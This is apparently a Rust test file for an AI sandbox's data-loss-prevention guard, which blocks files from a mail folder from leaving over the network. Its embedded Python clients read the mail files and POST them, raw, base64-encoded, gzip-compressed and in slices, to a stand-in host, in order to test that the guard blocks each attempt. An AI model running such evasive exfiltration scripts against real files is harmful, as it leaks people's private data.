//! A place marked as sensitive with the real binary: what lies there is known before it can be read, and does not leave in
//! any form.

use crate::inspect::Site;
use crate::support::run::{PATIENCE, comes_true};
use crate::support::{Home, for_each_user};
use crate::{event, events, kill_role};

/// Reads the files that were granted and sends them in several forms; prints the status and reason of each.
const SENDING: &str = r#"
import base64, gzip, json, sys, urllib.error, urllib.request
letter, note = open("Mail/letter", "rb").read(), open("Mail/note", "rb").read()
other = "".join(chr(97 + (at * at * 7 + at // 26) % 26) + (" " if at % 6 == 5 else "") for at in range(1800)).encode()
for data in other, letter, letter[400:1200], base64.b64encode(letter), gzip.compress(letter), note:
    wish = urllib.request.Request("https://site.test:" + sys.argv[1] + "/ok", method="POST", data=data)
    try:
        print(urllib.request.urlopen(wish, timeout=120).status)
    except urllib.error.HTTPError as error:
        print(error.code, json.loads(error.read())["reason"])
"#;

/// Sentences that are in no other text; each word ends as it is said.
fn letter(ends: &str) -> String {
    let words = [
        "merger", "harbour", "quiet", "ledger", "winter", "contract", "orchard", "signal", "velvet",
        "copper", "margin", "lantern", "border", "willow", "sermon", "gravel",
    ];
    let word = |at: usize| words[(at * at + 3 * at + at / 7) % words.len()];
    (0..240).map(|at| format!("{}{ends} ", word(at))).collect()
}

/// The same of two places that are asked for at one time.
const SENDING_BOTH: &str = r#"
import json, sys, threading, urllib.error, urllib.request
places, start = ["Mail", "Maildir"], threading.Barrier(2)
def read(name):
    start.wait()
    found[name] = open(name + "/letter", "rb").read()
found = {}
threads = [threading.Thread(target=read, args=[name]) for name in places]
for thread in threads: thread.start()
for thread in threads: thread.join()
for data in [b"nothing of it"] + [found[name] for name in places]:
    wish = urllib.request.Request("https://site.test:" + sys.argv[1] + "/ok", method="POST", data=data)
    try:
        print(urllib.request.urlopen(wish, timeout=120).status)
    except urllib.error.HTTPError as error:
        print(error.code, json.loads(error.read())["reason"])
"#;

/// Sends what lies at the place of a name in the folder that it works in, and what lies at one in the home.
const SENDING_SHOWN: &str = r#"
import json, os, sys, urllib.error, urllib.request
for place in "Mail/letter", os.path.expanduser("~/Mail/letter"):
    wish = urllib.request.Request("https://site.test:" + sys.argv[1] + "/ok", method="POST", data=open(place, "rb").read())
    try:
        print(urllib.request.urlopen(wish, timeout=120).status)
    except urllib.error.HTTPError as error:
        print(error.code, json.loads(error.read())["reason"])
"#;

/// A profile whose places may be read without a question, and whose network has the site, inspected.
fn profile(home: &Home, site: &Site, places: &[&str]) -> String {
    let entry = |place: &&str| format!("  - {{ path: $PWD/{place}, access: ask, actions: [read] }}\n");
    profile_with(home, site, &places.iter().map(entry).collect::<String>())
}

fn profile_with(home: &Home, site: &Site, entries: &str) -> String {
    let text = format!(
        "version: 1\nextends: [cowork]\n\
         consent: {{ channels: [ui], timeout: 5m, templates: [{{ name: all, actions: [read], path: $PWD }}] }}\n\
         filesystem:\n{entries}\
         network:\n  mode: filtered\n  allow:\n    - {{ host: site.test, port: {}, tls: inspect, networks: [127.0.0.0/8] }}\n",
        site.port
    );
    home.write("exact.yaml", &text).to_str().unwrap().to_owned()
}

/// Runs a client with the site's port; gives the lines it printed.
fn lines(home: &Home, site: &Site, profile: &str, client: &str) -> Vec<String> {
    home.write("work/client.py", client);
    let port = site.port.to_string();
    let output = site.run(home, profile, &["python3", "client.py", &port]).output();
    let lines: Vec<String> =
        output.stdout().lines().filter(|line| !line.is_empty()).map(str::to_owned).collect();
    assert!(!lines.is_empty(), "{output:?}");
    lines
}

#[test]
fn what_was_granted_of_a_sensitive_place_does_not_leave_in_any_form() {
    for_each_user(|home| {
        let home = &home;
        let site = Site::start(home);
        home.write("work/Mail/letter", &letter(""));
        home.write("work/Mail/note", "the vault opens at noon\n");
        let lines = lines(home, &site, &profile(home, &site, &["Mail"]), SENDING);
        assert_eq!(lines.len(), 6, "{lines:?}");
        assert_eq!(lines[0], "200", "the control: another text leaves");
        assert!(lines[1..].iter().all(|line| line == "403 dlp"), "{lines:?}");
        let known = event(home, "known_files");
        assert_eq!(
            (&known["label"], &known["files"], &known["left_out"]),
            (&"mail".into(), &2.into(), &0.into())
        );
        let names: Vec<String> = events(home).into_iter().map(|(name, _)| name).collect();
        let of = |name: &str| names.iter().position(|other| other == name).unwrap();
        assert!(of("grant") < of("known_files"));
        let alerts =
            events(home).into_iter().filter(|(name, data)| name == "network" && data["what"] == "alert");
        let kinds: Vec<String> =
            alerts.map(|(_, data)| data["findings"][0][0].as_str().unwrap().to_owned()).collect();
        assert_eq!(kinds, ["known-file"; 5]);
        let record = home.records().pop().unwrap();
        assert!(!record.contains("vault") && !record.contains("orchard"), "kinds, and no content");
        assert_eq!(std::fs::read_to_string(home.join("site/server.log")).unwrap().lines().count(), 1);
    });
}

#[test]
fn of_two_places_that_are_granted_at_once_neither_leaves() {
    for_each_user(|home| {
        let home = &home;
        let site = Site::start(home);
        for place in ["Mail", "Maildir"] {
            // The smallest is sent first, and so much that the other place's begins before the letter's turn.
            for at in 0..120 {
                home.write(&format!("work/{place}/{at}"), &letter(&format!("{place}{at}")));
            }
            let long: String = (0..9).map(|at| letter(&format!("{at}{place}"))).collect();
            home.write(&format!("work/{place}/letter"), &long);
        }
        let lines = lines(home, &site, &profile(home, &site, &["Mail", "Maildir"]), SENDING_BOTH);
        assert_eq!(lines, ["200", "403 dlp", "403 dlp"]);
        let known: Vec<_> = events(home).into_iter().filter(|(name, _)| name == "known_files").collect();
        let counts: Vec<_> = known.iter().map(|(_, data)| (&data["files"], &data["left_out"])).collect();
        assert_eq!(counts, [(&121.into(), &0.into()); 2], "{known:?}");
    });
}

#[test]
fn what_a_profile_shows_of_a_sensitive_place_does_not_leave_either() {
    for_each_user(|home| {
        let home = &home;
        let site = Site::start(home);
        home.write("Mail/letter", &letter(""));
        home.write("work/Mail/letter", &letter("own"));
        let profile = profile_with(home, &site, "  - { path: ~/Mail, access: ro }\n");
        let said = home.aisandbox(&["explain", "--profile", &profile]).output().stdout();
        let place = home.join("Mail");
        assert!(said.contains(&format!("{} [mail] (", place.display())), "{said}");
        assert!(said.contains("decoys: one that is sent is an alert"), "{said}");
        let lines = lines(home, &site, &profile, SENDING_SHOWN);
        assert_eq!(lines, ["200", "403 dlp"], "the folder the command works in is there to be sent");
        let known = event(home, "known_files");
        assert_eq!(
            (&known["grant"], &known["place"], &known["files"]),
            (&"".into(), &place.to_str().unwrap().into(), &1.into())
        );
        let names: Vec<String> = events(home).into_iter().map(|(name, _)| name).collect();
        let of = |name: &str| names.iter().position(|other| other == name).unwrap();
        assert!(of("known_files") < of("guardian_start") && !names.contains(&"grant".to_owned()));
    });
}

#[test]
fn no_agent_starts_beside_a_sensitive_place_that_could_not_be_made_known() {
    // Of an undumpable launcher only root sees which files are open.
    if !nix::unistd::geteuid().is_root() {
        return;
    }
    for_each_user(|home| {
        let home = &home;
        let site = Site::start(home);
        // So much that the lesson goes on while the test looks.
        let long: String = (0..4000).map(|at| letter(&at.to_string())).collect();
        home.write("Mail/letter", &long);
        let profile = profile_with(home, &site, "  - { path: ~/Mail, access: ro }\n");
        let mut run = site.run(home, &profile, &["touch", "started"]).start();
        let open = format!("/proc/{}/fd", run.pid());
        let reads = |entry: std::fs::DirEntry| {
            std::fs::read_link(entry.path()).is_ok_and(|file| file.ends_with("Mail/letter"))
        };
        let teaches = || std::fs::read_dir(&open).is_ok_and(|all| all.flatten().any(reads));
        assert!(comes_true(PATIENCE, teaches), "{:?}", run.finish());
        kill_role(run.pid(), "dlp");
        let output = run.finish();
        assert_eq!(output.code, 125, "{output:?}");
        assert!(output.stderr().contains("make known what lies at"), "{output:?}");
        assert!(!home.join("work/started").exists());
    });
}
